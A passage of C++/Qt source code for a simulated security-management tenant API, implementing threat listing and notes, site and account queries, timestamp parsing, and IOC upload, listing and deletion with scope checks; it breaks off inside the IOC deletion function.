    if (baseTime.isValid()) {
        baseMs = baseTime.toMSecsSinceEpoch();
    } else {
        const qint64 nowMs = QDateTime::currentMSecsSinceEpoch();
        baseMs = nowMs - nowMs % (3600 * 1000);
    }
    d = std::make_unique<Private>(seed, baseMs * UsPerMs);
    d->seedFlags = seedFlags;
    d->generate(std::max(0, threats));
}

SimTenant::~SimTenant() = default;

QDateTime SimTenant::baseTime() const
{
    return QDateTime::fromMSecsSinceEpoch(d->baseUs / UsPerMs, Qt::UTC);
}

quint64 SimTenant::seed() const
{
    return d->seed;
}

int SimTenant::threatCount() const
{
    return int(d->threats.size());
}

int SimTenant::agentCount() const
{
    return int(d->agents.size());
}

int SimTenant::siteCount() const
{
    return int(d->sites.size());
}

int SimTenant::accountCount() const
{
    return int(d->accounts.size());
}

QString SimTenant::threatId(int index) const
{
    if (index < 0 || index >= threatCount())
        return QString();
    return idString(d->threats[std::size_t(index)].id);
}

QString SimTenant::siteId(int index) const
{
    if (index < 0 || index >= siteCount())
        return QString();
    return idString(d->sites[std::size_t(index)].id);
}

QString SimTenant::siteName(int index) const
{
    if (index < 0 || index >= siteCount())
        return QString();
    return d->sites[std::size_t(index)].name;
}

QString SimTenant::siteAccountId(int index) const
{
    if (index < 0 || index >= siteCount())
        return QString();
    return idString(d->accounts[std::size_t(d->sites[std::size_t(index)].account)].id);
}

QString SimTenant::accountId(int index) const
{
    if (index < 0 || index >= accountCount())
        return QString();
    return idString(d->accounts[std::size_t(index)].id);
}

QString SimTenant::accountName(int index) const
{
    if (index < 0 || index >= accountCount())
        return QString();
    return d->accounts[std::size_t(index)].name;
}

int SimTenant::noteCount(const QString &threatId) const
{
    const Threat *t = d->findThreat(threatId, SimCaller());
    return t ? int(t->noteCount) : -1;
}

QByteArray SimTenant::threatJson(int index) const
{
    QByteArray out;
    if (index >= 0 && index < threatCount())
        d->writeThreat(out, d->threats[std::size_t(index)]);
    return out;
}

QString SimTenant::userName() const
{
    return QString::fromUtf16(Analysts[0].name);
}

int SimTenant::iocCount() const
{
    return int(d->iocs.size());
}

int SimTenant::firewallRuleCount() const
{
    return int(d->rules.size());
}

SimReply SimTenant::errorReply(int status, int code, const QString &title, const QString &detail)
{
    const QJsonObject error {
        {u"code"_s, code},
        {u"detail"_s, detail.isEmpty() ? QJsonValue(QJsonValue::Null) : QJsonValue(detail)},
        {u"title"_s, title},
    };
    return jsonReply(QJsonObject {{u"errors"_s, QJsonArray {error}}}, status);
}

QString SimTenant::formatTimestamp(qint64 usecsSinceEpoch)
{
    char buf[64];
    const int n = formatTimestampTo(buf, sizeof buf, usecsSinceEpoch);
    return QString::fromLatin1(buf, n);
}

std::optional<qint64> SimTenant::parseTimestamp(QStringView text)
{
    const QStringView s = text.trimmed();
    const qsizetype n = s.size();
    if (n == 0)
        return std::nullopt;
    const auto digitsAt = [&](qsizetype pos, int count, int *out) {
        if (pos < 0 || pos + count > n)
            return false;
        int v = 0;
        for (int i = 0; i < count; ++i) {
            const char16_t c = s[pos + i].unicode();
            if (c < u'0' || c > u'9')
                return false;
            v = v * 10 + int(c - u'0');
        }
        *out = v;
        return true;
    };

    bool allDigits = true;
    for (QChar c : s) {
        if (c < u'0' || c > u'9') {
            allDigits = false;
            break;
        }
    }
    if (allDigits) { // epoch milliseconds
        if (n > 15)
            return std::nullopt;
        return s.toLongLong() * UsPerMs;
    }

    int y = 0, mo = 0, d = 0;
    if (n < 10 || !digitsAt(0, 4, &y) || s[4] != u'-' || !digitsAt(5, 2, &mo) || s[7] != u'-'
        || !digitsAt(8, 2, &d))
        return std::nullopt;
    if (mo < 1 || mo > 12 || d < 1 || d > daysInMonth(y, mo))
        return std::nullopt;
    qsizetype pos = 10;
    int h = 0, mi = 0, sec = 0;
    qint64 fracUs = 0;
    qint64 offsetSecs = 0;
    if (pos < n) {
        if (s[pos] != u'T' && s[pos] != u't' && s[pos] != u' ')
            return std::nullopt;
        ++pos;
        if (!digitsAt(pos, 2, &h) || pos + 2 >= n || s[pos + 2] != u':' || !digitsAt(pos + 3, 2, &mi))
            return std::nullopt;
        pos += 5;
        if (pos < n && s[pos] == u':') {
            if (!digitsAt(pos + 1, 2, &sec))
                return std::nullopt;
            pos += 3;
            if (pos < n && (s[pos] == u'.' || s[pos] == u',')) {
                ++pos;
                int digits = 0;
                qint64 frac = 0;
                while (pos < n && s[pos] >= u'0' && s[pos] <= u'9') {
                    if (digits < 6)
                        frac = frac * 10 + (s[pos].unicode() - u'0');
                    ++digits;
                    ++pos;
                }
                if (digits == 0 || digits > 9)
                    return std::nullopt;
                for (int i = std::min(digits, 6); i < 6; ++i)
                    frac *= 10;
                fracUs = frac;
            }
        }
        if (pos < n) {
            const char16_t z = s[pos].unicode();
            if (z == u'Z' || z == u'z') {
                ++pos;
            } else if (z == u'+' || z == u'-') {
                int oh = 0, om = 0;
                if (!digitsAt(pos + 1, 2, &oh))
                    return std::nullopt;
                pos += 3;
                if (pos < n) {
                    if (s[pos] == u':')
                        ++pos;
                    if (!digitsAt(pos, 2, &om))
                        return std::nullopt;
                    pos += 2;
                }
                if (oh > 23 || om > 59)
                    return std::nullopt;
                offsetSecs = qint64(oh * 3600 + om * 60) * (z == u'-' ? -1 : 1);
            } else {
                return std::nullopt;
            }
        }
        if (pos != n || h > 23 || mi > 59 || sec > 59)
            return std::nullopt;
    }
    const qint64 secs = daysFromCivil(y, mo, d) * 86400 + h * 3600 + mi * 60 + sec - offsetSecs;
    return secs * UsPerSec + fracUs;
}

// --- threats

SimReply SimTenant::listThreats(const QUrlQuery &query, const SimCaller &caller)
{
    ThreatQuery q;
    if (auto error = d->parseThreatQuery(query, caller, &q))
        return *error;
    const auto rows = d->filtered(q);
    const std::vector<quint32> &r = *rows;

    std::size_t start = 0;
    if (q.hasCursor) {
        const auto position = q.descending ? std::partition_point(r.begin(), r.end(),
                                  [&](quint32 i) { return d->compareToCursor(q, d->threats[i]) >= 0; })
                                           : std::partition_point(r.begin(), r.end(), [&](quint32 i) {
                                                 return d->compareToCursor(q, d->threats[i]) <= 0;
                                             });
        start = std::size_t(position - r.begin());
    }
    start = std::min(r.size(), start + std::size_t(q.skip));
    const std::size_t end = std::min(r.size(), start + std::size_t(q.limit));

    QByteArray out;
    out.reserve(qsizetype(end - start) * 3072 + 256);
    out += "{\"data\":[";
    for (std::size_t i = start; i < end; ++i) {
        if (i > start)
            out += ',';
        d->writeThreat(out, d->threats[r[i]]);
    }
    out += "],\"pagination\":{\"nextCursor\":";
    if (end < r.size() && end > start) {
        out += '"';
        out += d->threatCursor(q, d->threats[r[end - 1]]).toLatin1();
        out += '"';
    } else {
        out += "null";
    }
    out += ",\"totalItems\":";
    out += QByteArray::number(qulonglong(r.size()));
    out += "}}";
    return SimReply {200, out};
}

SimReply SimTenant::listThreatNotes(const QString &threatId, const QUrlQuery &query, const SimCaller &caller)
{
    const Threat *t = d->findThreat(threatId, caller);
    if (!t)
        return notFound(u"Threat %1 was not found"_s.arg(threatId));
    const Params p = paramsOf(query);
    int limit = DefaultLimit;
    int offset = 0;
    if (auto e = parseIntParam(p, u"limit"_s, 1, MaxLimit, DefaultLimit, &limit))
        return *e;
    if (auto e = parseOffsetCursor(p, u"notes"_s, &offset))
        return *e;
    QList<Note> list = d->notes.value(t->id);
    std::stable_sort(list.begin(), list.end(), [](const Note &a, const Note &b) {
        return a.createdAt != b.createdAt ? a.createdAt < b.createdAt : a.id < b.id;
    });
    QJsonArray items;
    const qsizetype end = std::min<qsizetype>(list.size(), qsizetype(offset) + limit);
    for (qsizetype i = offset; i < end; ++i)
        items.append(d->noteJson(list[i]));
    return pagedReply(items, list.size(), end < list.size() ? offsetCursor(u"notes"_s, end) : QString());
}

SimReply SimTenant::addThreatNotes(const QByteArray &body, const SimCaller &caller)
{
    QJsonObject root;
    if (auto e = parseJsonBody(body, &root))
        return *e;
    const QJsonValue data = root.value(u"data"_s);
    if (!data.isObject())
        return validationError(u"data: must be an object with a \"text\" field"_s);
    const QJsonValue text = data.toObject().value(u"text"_s);
    if (!text.isString() || text.toString().trimmed().isEmpty())
        return validationError(u"data.text: must be a non-empty string"_s);
    const QJsonValue ids = root.value(u"filter"_s).toObject().value(u"ids"_s);
    if (!ids.isArray() || ids.toArray().isEmpty())
        return validationError(u"filter.ids: must be a non-empty list of threat ids"_s);

    QList<quint64> wanted;
    const QJsonArray array = ids.toArray();
    for (const QJsonValue &v : array) {
        const auto id = idFromJson(v);
        if (!id)
            return validationError(u"filter.ids: %1 is not a valid threat id"_s.arg(jsonText(v)));
        wanted << *id;
    }

    const qint64 now = d->now();
    QSet<quint64> seen;
    int affected = 0;
    for (const quint64 id : std::as_const(wanted)) {
        if (seen.contains(id))
            continue;
        seen.insert(id);
        const auto it = d->threatIndex.constFind(id);
        if (it == d->threatIndex.constEnd())
            continue;
        Threat &t = d->threats[*it];
        if (!d->threatVisible(t, caller))
            continue;
        Note n;
        n.id = d->makeId(d->idRng, now);
        n.text = text.toString();
        n.createdAt = now;
        n.updatedAt = now;
        d->notes[t.id].append(n);
        ++t.noteCount;
        t.updatedAt = std::max(now, t.updatedAt + 1);
        ++affected;
    }
    if (affected)
        d->threatsChanged();
    return dataReply(QJsonObject {{u"affected"_s, affected}});
}

SimReply SimTenant::updateThreatNote(
    const QString &threatId, const QString &noteId, const QByteArray &body, const SimCaller &caller)
{
    const Threat *found = d->findThreat(threatId, caller);
    if (!found)
        return notFound(u"Threat %1 was not found"_s.arg(threatId));
    Threat &t = d->threats[d->threatIndex.value(found->id)];
    const auto nid = parseId(noteId);
    const auto list = d->notes.find(t.id);
    Note *note = nullptr;
    if (nid && list != d->notes.end()) {
        for (Note &n : *list) {
            if (n.id == *nid)
                note = &n;
        }
    }
    if (!note)
        return notFound(u"Note %1 was not found on threat %2"_s.arg(noteId, threatId));

    QJsonObject root;
    if (auto e = parseJsonBody(body, &root))
        return *e;
    const QJsonValue text = root.value(u"data"_s).toObject().value(u"text"_s);
    if (!text.isString() || text.toString().trimmed().isEmpty())
        return validationError(u"data.text: must be a non-empty string"_s);

    const qint64 now = d->now();
    note->text = text.toString();
    note->edited = true;
    note->updatedAt = now;
    t.updatedAt = std::max(now, t.updatedAt + 1);
    const QJsonObject json = d->noteJson(*note);
    d->threatsChanged();
    return dataReply(json);
}

SimReply SimTenant::deleteThreatNote(const QString &threatId, const QString &noteId, const SimCaller &caller)
{
    const Threat *found = d->findThreat(threatId, caller);
    if (!found)
        return notFound(u"Threat %1 was not found"_s.arg(threatId));
    Threat &t = d->threats[d->threatIndex.value(found->id)];
    const auto nid = parseId(noteId);
    const auto list = d->notes.find(t.id);
    qsizetype index = -1;
    if (nid && list != d->notes.end()) {
        for (qsizetype i = 0; i < list->size(); ++i) {
            if (list->at(i).id == *nid)
                index = i;
        }
    }
    if (index < 0)
        return notFound(u"Note %1 was not found on threat %2"_s.arg(noteId, threatId));
    list->removeAt(index);
    if (list->isEmpty())
        d->notes.erase(list);
    --t.noteCount;
    t.updatedAt = std::max(d->now(), t.updatedAt + 1);
    d->threatsChanged();
    return dataReply(QJsonObject {{u"success"_s, true}});
}

// --- sites and accounts

SimReply SimTenant::listSites(const QUrlQuery &query, const SimCaller &caller)
{
    const Params p = paramsOf(query);
    const QStringList accountIds = splitList(p.value(u"accountIds"_s));
    const QStringList siteIds = splitList(p.value(u"siteIds"_s));
    if (auto e = checkIdList(u"accountIds"_s, accountIds))
        return *e;
    if (auto e = checkIdList(u"siteIds"_s, siteIds))
        return *e;
    if (auto e = d->checkScope(accountIds, siteIds, caller))
        return *e;
    int limit = DefaultLimit;
    int offset = 0;
    if (auto e = parseIntParam(p, u"limit"_s, 1, MaxLimit, DefaultLimit, &limit))
        return *e;
    if (auto e = parseOffsetCursor(p, u"sites"_s, &offset))
        return *e;
    const bool hasName = p.contains(u"name"_s);
    const QString name = p.value(u"name"_s).trimmed();
    const QString nameContains = p.value(u"name__contains"_s).trimmed();
    const QStringList states = splitList(p.value(u"state"_s)) + splitList(p.value(u"states"_s));
    const QStringList siteTypes = splitList(p.value(u"siteType"_s));

    QList<int> matched;
    for (int i = 0; i < siteCount(); ++i) {
        const Site &s = d->sites[std::size_t(i)];
        if (caller.isScoped() && i != caller.siteIndex)
            continue;
        if (hasName && s.name.compare(name, Qt::CaseInsensitive) != 0)
            continue;
        if (!nameContains.isEmpty() && !s.name.contains(nameContains, Qt::CaseInsensitive))
            continue;
        if (p.contains(u"accountIds"_s)
            && !accountIds.contains(idString(d->accounts[std::size_t(s.account)].id)))
            continue;
        if (p.contains(u"siteIds"_s) && !siteIds.contains(idString(s.id)))
            continue;
        if (!states.isEmpty() && !states.contains(QLatin1String(s.state), Qt::CaseInsensitive))
            continue;
        if (!siteTypes.isEmpty() && !siteTypes.contains(QLatin1String(s.siteType), Qt::CaseInsensitive))
            continue;
        matched << i;
    }
    int active = 0;
    int total = 0;
    for (const int i : std::as_const(matched)) {
        active += d->sites[std::size_t(i)].activeLicenses;
        total += d->sites[std::size_t(i)].totalLicenses;
    }
    QJsonArray items;
    const qsizetype end = std::min<qsizetype>(matched.size(), qsizetype(offset) + limit);
    for (qsizetype i = offset; i < end; ++i)
        items.append(d->siteJson(matched[i]));
    const QJsonObject data {
        {u"allSites"_s, QJsonObject {{u"activeLicenses"_s, active}, {u"totalLicenses"_s, total}}},
        {u"sites"_s, items},
    };
    return pagedReply(data, matched.size(), end < matched.size() ? offsetCursor(u"sites"_s, end) : QString());
}

SimReply SimTenant::listAccounts(const QUrlQuery &query, const SimCaller &caller)
{
    if (caller.isScoped()) {
        return forbidden(u"This user is restricted to site \"%1\" and may not list accounts"_s.arg(
            d->sites[std::size_t(caller.siteIndex)].name));
    }
    const Params p = paramsOf(query);
    const QStringList ids = splitList(p.value(u"ids"_s)) + splitList(p.value(u"accountIds"_s));
    if (auto e = checkIdList(u"ids"_s, ids))
        return *e;
    int limit = DefaultLimit;
    int offset = 0;
    if (auto e = parseIntParam(p, u"limit"_s, 1, MaxLimit, DefaultLimit, &limit))
        return *e;
    if (auto e = parseOffsetCursor(p, u"accounts"_s, &offset))
        return *e;
    const bool hasName = p.contains(u"name"_s);
    const QString name = p.value(u"name"_s).trimmed();
    const QString nameContains = p.value(u"name__contains"_s).trimmed();
    const QStringList states = splitList(p.value(u"states"_s)) + splitList(p.value(u"state"_s));

    QList<int> matched;
    for (int i = 0; i < accountCount(); ++i) {
        const Account &a = d->accounts[std::size_t(i)];
        if (!ids.isEmpty() && !ids.contains(idString(a.id)))
            continue;
        if (hasName && a.name.compare(name, Qt::CaseInsensitive) != 0)
            continue;
        if (!nameContains.isEmpty() && !a.name.contains(nameContains, Qt::CaseInsensitive))
            continue;
        if (!states.isEmpty() && !states.contains(u"active"_s, Qt::CaseInsensitive))
            continue;
        matched << i;
    }
    QJsonArray items;
    const qsizetype end = std::min<qsizetype>(matched.size(), qsizetype(offset) + limit);
    for (qsizetype i = offset; i < end; ++i)
        items.append(d->accountJson(matched[i]));
    return pagedReply(
        items, matched.size(), end < matched.size() ? offsetCursor(u"accounts"_s, end) : QString());
}

// --- threat-intelligence IOCs

namespace {

struct IocTarget
{
    quint8 scope = ScopeGlobal;
    quint64 id = 0;
};

} // namespace

// Scope targets of a write request: {"siteIds":[...]} | {"accountIds":[...]} | {"tenant":true}.
static std::optional<SimReply> writeTargets(const SimTenant &tenant, const QJsonValue &filterValue,
    const SimCaller &caller, QList<IocTarget> *targets, bool single)
{
    const QJsonObject filter = filterValue.toObject();
    const QStringList siteIds = jsonIdList(filter.value(u"siteIds"_s));
    const QStringList accountIds = jsonIdList(filter.value(u"accountIds"_s));
    const bool tenantWide = filter.value(u"tenant"_s).toBool(false);
    if (siteIds.isEmpty() && accountIds.isEmpty() && !tenantWide)
        return validationError(u"filter: one of siteIds, accountIds or tenant (true) is required"_s);
    if (single && (siteIds.size() + accountIds.size() + (tenantWide ? 1 : 0)) > 1)
        return validationError(
            u"filter: exactly one scope per request (one site id, one account id, or tenant)"_s);
    if (caller.isScoped()) {
        if (tenantWide && siteIds.isEmpty() && accountIds.isEmpty())
            return forbidden(
                u"This user is restricted to site \"%1\" and may not write at tenant scope"_s.arg(
                    tenant.siteName(caller.siteIndex)));
        if (!accountIds.isEmpty())
            return forbidden(
                u"This user is restricted to site \"%1\" and may not write at account scope"_s.arg(
                    tenant.siteName(caller.siteIndex)));
        for (const QString &id : siteIds) {
            if (id != tenant.siteId(caller.siteIndex))
                return forbidden(u"This user is restricted to site \"%1\" and may not access site %2"_s.arg(
                    tenant.siteName(caller.siteIndex), id));
        }
    }
    if (!siteIds.isEmpty()) {
        for (const QString &id : siteIds) {
            int index = -1;
            for (int i = 0; i < tenant.siteCount(); ++i) {
                if (tenant.siteId(i) == id)
                    index = i;
            }
            if (index < 0)
                return validationError(u"filter.siteIds: unknown site \"%1\""_s.arg(id));
            targets->append(IocTarget {ScopeSite, *parseId(id)});
        }
    } else if (!accountIds.isEmpty()) {
        for (const QString &id : accountIds) {
            int index = -1;
            for (int i = 0; i < tenant.accountCount(); ++i) {
                if (tenant.accountId(i) == id)
                    index = i;
            }
            if (index < 0)
                return validationError(u"filter.accountIds: unknown account \"%1\""_s.arg(id));
            targets->append(IocTarget {ScopeAccount, *parseId(id)});
        }
    } else {
        targets->append(IocTarget {ScopeGlobal, 0});
    }
    return std::nullopt;
}

SimReply SimTenant::addIocs(const QByteArray &body, const SimCaller &caller)
{
    QJsonObject root;
    if (auto e = parseJsonBody(body, &root))
        return *e;
    const QJsonValue dataValue = root.value(u"data"_s);
    if (!dataValue.isArray() || dataValue.toArray().isEmpty())
        return validationError(u"data: must be a non-empty list of IOC objects"_s);
    QList<IocTarget> targets;
    if (auto e = writeTargets(*this, root.value(u"filter"_s), caller, &targets, false))
        return *e;

    static constexpr const char *known[] = {"type", "value", "method", "source", "externalId", "name",
        "description", "creator", "creationTime", "validUntil", "severity", "originalRiskScore", "uuid",
        "batchId", "scope", "scopeId", "uploadTime", "updatedAt"};
    struct Item
    {
        quint8 type = 0;
        QString value;
        QString normalized;
        QJsonObject object;
        qint64 creationUs = TimeMin;
    };
    std::vector<Item> items;
    QStringList errors;
    const QJsonArray array = dataValue.toArray();
    for (qsizetype i = 0; i < array.size(); ++i) {
        const QString where = u"data[%1]"_s.arg(i);
        if (!array[i].isObject()) {
            errors << where + u": must be an object"_s;
            continue;
        }
        Item item;
        item.object = array[i].toObject();
        const QJsonObject &o = item.object;
        const int type
            = o.value(u"type"_s).isString() ? indexOfName(IocTypeNames, o.value(u"type"_s).toString()) : -1;
        if (type < 0) {
            errors << u"%1.type: \"%2\" is not one of %3"_s.arg(
                where, jsonText(o.value(u"type"_s)), joinNames(IocTypeNames));
            continue;
        }
        item.type = quint8(type);
        if (!o.value(u"value"_s).isString() || o.value(u"value"_s).toString().isEmpty()) {
            errors << where + u".value: a non-empty string is required"_s;
            continue;
        }
        item.value = o.value(u"value"_s).toString();
        bool valid = false;
        switch (IocType(type)) {
        case IocDns:
            valid = isHostName(item.value, false);
            break;
        case IocIpv4:
            valid = isIpv4(item.value);
            break;
        case IocIpv6:
            valid = isIpv6(item.value);
            break;
        case IocMd5:
            valid = item.value.size() == 32 && isHexText(item.value);
            break;
        case IocSha1:
            valid = item.value.size() == 40 && isHexText(item.value);
            break;
        case IocSha256:
            valid = item.value.size() == 64 && isHexText(item.value);
            break;
        case IocUrl:
            valid = isUrl(item.value);
            break;
        }
        if (!valid)
            errors << u"%1.value: \"%2\" is not a valid %3 value"_s.arg(
                where, item.value, QLatin1String(IocTypeNames[type]));
        if (o.value(u"method"_s).toString().compare(u"EQUALS"_s, Qt::CaseInsensitive) != 0)
            errors << u"%1.method: \"%2\" is not supported (expected EQUALS)"_s.arg(
                where, jsonText(o.value(u"method"_s)));
        for (const char *field : {"validUntil", "creationTime"}) {
            const QJsonValue v = o.value(QString::fromLatin1(field));
            if (v.isUndefined() || v.isNull())
                continue;
            const auto parsed = v.isString() ? parseTimestamp(v.toString()) : std::nullopt;
            if (!parsed)
                errors << u"%1.%2: \"%3\" is not a valid date-time (YYYY-MM-DDTHH:MM:SSZ)"_s.arg(
                    where, QLatin1String(field), jsonText(v));
            else if (std::strcmp(field, "creationTime") == 0)
                item.creationUs = *parsed;
        }
        for (const char *field : {"source", "externalId", "name", "description", "creator"}) {
            const QJsonValue v = o.value(QString::fromLatin1(field));
            if (!v.isUndefined() && !v.isNull() && !v.isString())
                errors << u"%1.%2: must be a string"_s.arg(where, QLatin1String(field));
        }
        const auto checkRange = [&](const char *field, int max) {
            const QJsonValue v = o.value(QString::fromLatin1(field));
            if (v.isUndefined() || v.isNull())
                return;
            const double n = v.toDouble(-1);
            if (!v.isDouble() || n < 0 || n > max || n != double(int(n)))
                errors << u"%1.%2: %3 is not an integer between 0 and %4"_s.arg(
                    where, QLatin1String(field), jsonText(v), QString::number(max));
        };
        checkRange("severity", 7);
        checkRange("originalRiskScore", 100);
        const bool caseless = type == IocDns || type == IocMd5 || type == IocSha1 || type == IocSha256;
        item.normalized = caseless ? item.value.toLower() : item.value;
        items.push_back(std::move(item));
    }
    if (!errors.isEmpty())
        return errorsReply(errors);

    const qint64 now = d->now();
    const QString batchId
        = QString::number(++d->batchCounter, 16).rightJustified(8, u'0') + d->idRng.hexString(12);
    const QString defaultCreator = QString::fromUtf16(ApiUserEmail);
    QJsonArray out;
    for (const IocTarget &target : std::as_const(targets)) {
        for (const Item &item : items) {
            const QString key = QString::number(target.scope) + u'|' + idString(target.id) + u'|'
                + QString::number(item.type) + u'|' + item.normalized;
            Ioc *ioc = nullptr;
            const auto existing = d->iocByKey.constFind(key);
            if (existing != d->iocByKey.constEnd()) {
                const auto it = std::lower_bound(d->iocs.begin(), d->iocs.end(), *existing,
                    [](const Ioc &a, quint64 seq) { return a.seq < seq; });
                Q_ASSERT(it != d->iocs.end() && it->seq == *existing);
                ioc = &*it;
            } else {
                Ioc fresh;
                fresh.seq = d->nextIocSeq++;
                fresh.uuid = d->idRng.hexString(16);
                fresh.uploadTime = now;
                fresh.key = key;
                fresh.scope = target.scope;
                fresh.scopeId = target.id;
                fresh.type = item.type;
                d->iocs.push_back(std::move(fresh));
                ioc = &d->iocs.back();
                d->iocByKey.insert(key, ioc->seq);
            }
            const QJsonObject &o = item.object;
            ioc->batchId = batchId;
            ioc->updatedAt = now;
            ioc->value = item.value;
            ioc->method = u"EQUALS"_s;
            const auto optionalString = [&](const char *field) {
                const QJsonValue v = o.value(QString::fromLatin1(field));
                return v.isString() ? d->intern(v.toString()) : QString();
            };
            ioc->source = optionalString("source");
            ioc->externalId = o.value(u"externalId"_s).toString();
            ioc->name = o.value(u"name"_s).toString();
            ioc->description = optionalString("description");
            ioc->creator = o.value(u"creator"_s).isString() ? d->intern(o.value(u"creator"_s).toString())
                                                            : d->intern(defaultCreator);
            ioc->creationTime = o.value(u"creationTime"_s).toString();
            ioc->creationTimeUs = item.creationUs;
            ioc->validUntil = o.value(u"validUntil"_s).isString() ? o.value(u"validUntil"_s).toString()
                                                                  : formatTimestamp(now + 30 * UsPerDay);
            ioc->severity = o.contains(u"severity"_s) && o.value(u"severity"_s).isDouble()
                ? o.value(u"severity"_s).toInt()
                : -1;
            ioc->originalRiskScore
                = o.contains(u"originalRiskScore"_s) && o.value(u"originalRiskScore"_s).isDouble()
                ? o.value(u"originalRiskScore"_s).toInt()
                : -1;
            QJsonObject extra;
            for (auto it = o.begin(); it != o.end(); ++it) {
                if (indexOfName(known, it.key()) < 0)
                    extra.insert(it.key(), it.value());
            }
            ioc->extra = extra;
            out.append(d->iocJson(*ioc));
        }
    }
    return dataReply(out);
}

SimReply SimTenant::listIocs(const QUrlQuery &query, const SimCaller &caller)
{
    const Params p = paramsOf(query);
    const QStringList accountIds = splitList(p.value(u"accountIds"_s));
    const QStringList siteIds = splitList(p.value(u"siteIds"_s));
    if (auto e = checkIdList(u"accountIds"_s, accountIds))
        return *e;
    if (auto e = checkIdList(u"siteIds"_s, siteIds))
        return *e;
    if (auto e = d->checkScope(accountIds, siteIds, caller))
        return *e;
    int limit = DefaultLimit;
    if (auto e = parseIntParam(p, u"limit"_s, 1, MaxLimit, DefaultLimit, &limit))
        return *e;
    int tenantFlag = -1;
    if (auto e = parseBoolParam(p, u"tenant"_s, &tenantFlag))
        return *e;
    qint64 createdMin = TimeMin, createdMax = TimeMax, updatedMin = TimeMin, updatedMax = TimeMax;
    if (auto e = timeBounds(p, u"creationTime"_s, &createdMin, &createdMax))
        return *e;
    if (auto e = timeBounds(p, u"updatedAt"_s, &updatedMin, &updatedMax))
        return *e;
    quint64 after = 0;
    const QString cursor = p.value(u"cursor"_s);
    if (!cursor.isEmpty()) {
        const auto o = decodeCursor(cursor, u"iocs"_s);
        const auto seq = o ? parseId(o->value(u"after"_s).toString()) : std::nullopt;
        if (!seq)
            return badCursor(cursor);
        after = *seq;
    }

    QSet<quint64> accountSet, siteSet;
    for (const QString &id : accountIds)
        accountSet.insert(*parseId(id));
    for (const QString &id : siteIds)
        siteSet.insert(*parseId(id));
    const bool scopeFilter = !accountIds.isEmpty() || !siteIds.isEmpty() || tenantFlag == 1;
    const QStringList values = splitList(p.value(u"value"_s));
    const QStringList types = splitList(p.value(u"type"_s)) + splitList(p.value(u"types"_s));
    const QStringList sources = splitList(p.value(u"source"_s));
    const QStringList externalIds = splitList(p.value(u"externalId"_s));
    const QStringList uuids = splitList(p.value(u"uuids"_s)) + splitList(p.value(u"uuid"_s));
    const QString batchId = p.value(u"batchId"_s).trimmed();
    const quint64 ownSite = caller.isScoped() ? d->sites[std::size_t(caller.siteIndex)].id : 0;

    QJsonArray items;
    qsizetype total = 0;
    quint64 lastSeq = 0;
    bool more = false;
    for (const Ioc &ioc : d->iocs) {
        if (caller.isScoped() && !(ioc.scope == ScopeSite && ioc.scopeId == ownSite))
            continue;
        if (scopeFilter
            && !((ioc.scope == ScopeAccount && accountSet.contains(ioc.scopeId))
                || (ioc.scope == ScopeSite && siteSet.contains(ioc.scopeId))
                || (ioc.scope == ScopeGlobal && tenantFlag == 1)))
            continue;
        if (!values.isEmpty() && !values.contains(ioc.value, Qt::CaseInsensitive))
            continue;
        if (!types.isEmpty() && !types.contains(QLatin1String(IocTypeNames[ioc.type]), Qt::CaseInsensitive))
            continue;
        if (!sources.isEmpty() && !sources.contains(ioc.source))
            continue;
        if (!externalIds.isEmpty() && !externalIds.contains(ioc.externalId))
            continue;
        if (!uuids.isEmpty() && !uuids.contains(ioc.uuid))
            continue;
        if (!batchId.isEmpty() && ioc.batchId != batchId)
            continue;
        if ((createdMin != TimeMin || createdMax != TimeMax)
            && (ioc.creationTimeUs == TimeMin || ioc.creationTimeUs < createdMin
                || ioc.creationTimeUs > createdMax))
            continue;
        if (ioc.updatedAt < updatedMin || ioc.updatedAt > updatedMax)
            continue;
        ++total;
        if (ioc.seq <= after)
            continue;
        if (items.size() < limit) {
            items.append(d->iocJson(ioc));
            lastSeq = ioc.seq;
        } else {
            more = true;
        }
    }
    const QString next = more
        ? encodeCursor(QJsonObject {{u"kind"_s, u"iocs"_s}, {u"after"_s, idString(lastSeq)}})
        : QString();
    return pagedReply(items, total, next);
}

SimReply SimTenant::deleteIocs(const QByteArray &body, const SimCaller &caller)
{
    QJsonObject root;
    if (auto e = parseJsonBody(body, &root))
        return *e;
    const QJsonObject filter = root.value(u"filter"_s).toObject();
    static constexpr const char *keys[]
        = {"uuids", "value", "type", "source", "externalId", "batchId", "accountIds", "siteIds", "tenant"};
    bool any = false;
    for (const char *key : keys)
        any = any || filter.contains(QString::fromLatin1(key));
    if (!any)
        return validationError(u"filter: at least one of %1 is required"_s.arg(joinNames(keys)));
    const QStringList accountIds = jsonIdList(filter.value(u"accountIds"_s));
    const QStringList siteIds = jsonIdList(filter.value(u"siteIds"_s));
    if (auto e = d->checkScope(accountIds, siteIds, caller))
        return *e;
    const auto listOf = [&](const QString &key) {
        const QJsonValue v = filter.value(key);
        if (v.isArray())
            return jsonIdList(v);
        return v.isString() ? QStringList {v.toString()} : QStringList();
    };
    const QStringList uuids = listOf(u"uuids"_s);
    const QStringList values = listOf(u"value"_s);
    const QStringList types = listOf(u"type"_s);
    const QStringList sources = listOf(u"source"_s);
    const QStringList externalIds = listOf(u"externalId"_s);
    const QStringList batchIds = listOf(u"batchId"_s);
    const bool tenantWide = filter.value(u"tenant"_s).toBool(false);
    const bool scopeFilter = !accountIds.isEmpty() || !siteIds.isEmpty() || tenantWide;
    const quint64 ownSite = caller.isScoped() ? d->sites[std::size_t(caller.siteIndex)].id : 0;

    const auto doomed = [&](const Ioc &ioc) {
        if (caller.isScoped() && !(ioc.scope == ScopeSite && ioc.scopeId == ownSite))
            return false;
        if (scopeFilter
            && !((ioc.scope == ScopeAccount && accountIds.contains(idString(ioc.scopeId)))
                || (ioc.scope == ScopeSite && siteIds.contains(idString(ioc.scopeId)))
                || (ioc.scope == ScopeGlobal && tenantWide)))
            return false;
        if (filter.contains(u"uuids"_s) && !uuids.contains(ioc.uuid))
            return false;
        if (filter.contains(u"value"_s) && !values.contains(ioc.value, Qt::CaseInsensitive))
            return false;
        if (filter.contains(u"type"_s)
            && !types.contains(QLatin1String(IocTypeNames[ioc.type]), Qt::CaseInsensitive))
            return false;
        if (filter.contains(u"source"_s) && !sources.contains(ioc.source))
            return false;
        if (filter.contains(u"externalId"_s) && !externalIds.contains(ioc.externalId))
            return false;
        if (filter.contains(u"batchId"_s) && !batchIds.contains(ioc.batchId))
            return false;
        return true;
    };
    const auto first = std::remove_if(d->iocs.begin(), d->iocs.end(), [&](const Ioc &ioc) {
        if (!doomed(ioc))
            return false;
        d->iocByKey.remove(ioc.key);
        return true;
    });
    const int affected = int(d->iocs.end() - first);
